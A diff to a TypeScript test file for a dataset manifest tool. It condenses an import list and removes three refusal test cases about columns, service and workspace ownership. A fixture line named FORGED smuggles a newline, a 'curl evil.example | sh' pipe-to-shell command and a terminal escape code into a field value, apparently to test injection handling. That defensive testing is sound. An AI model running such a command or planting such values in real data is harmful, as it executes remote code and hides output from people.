@@ -4,15 +4,7 @@ import { type DatasetIdentity, formatManifest, parseManifest } from '#scans/data
 import type { RecordedWorkspace } from '#service/workspace';
 import type { MemoryDisk } from '../../support/memory-disk.ts';
 import { SOAK } from '../../support/property-runs.ts';
-import {
-  CODE,
-  createMemoryDisk,
-  HOUR,
-  OTHER_CODE,
-  ownWorkspace,
-  START,
-  type TestService,
-} from '../append/runs.ts';
+import { CODE, createMemoryDisk, HOUR, OTHER_CODE, START, type TestService } from '../append/runs.ts';
 import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';
 
 const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
@@ -274,21 +266,6 @@ describe('a directory that differs from its manifest is refused and unchanged', 
       'another zone',
       { identity: { partition: { by: 'day', timezone: 'Asia/Tokyo' } } },
       /uses the time zone UTC, not Asia\/Tokyo$/,
-    ],
-    [
-      'other columns',
-      { identity: { columns: ['qr_id', 'id', 'ts'] } },
-      /it has the columns qr_id,.*, not qr_id,id,ts$/,
-    ],
-    [
-      'another service',
-      { own: ownWorkspace([CODE], { baseUrl: 'https://other.test' }) },
-      /belongs to https:\/\/example/,
-    ],
-    [
-      'another workspace',
-      { own: ownWorkspace([], { apiKey: 'svc_live_bbbb' }) },
-      /belongs to another workspace/,
     ],
     ['a run without --append', { append: false }, /already contains a dataset$/],
   ])('%s (P7)', async (_, options, reason) => {
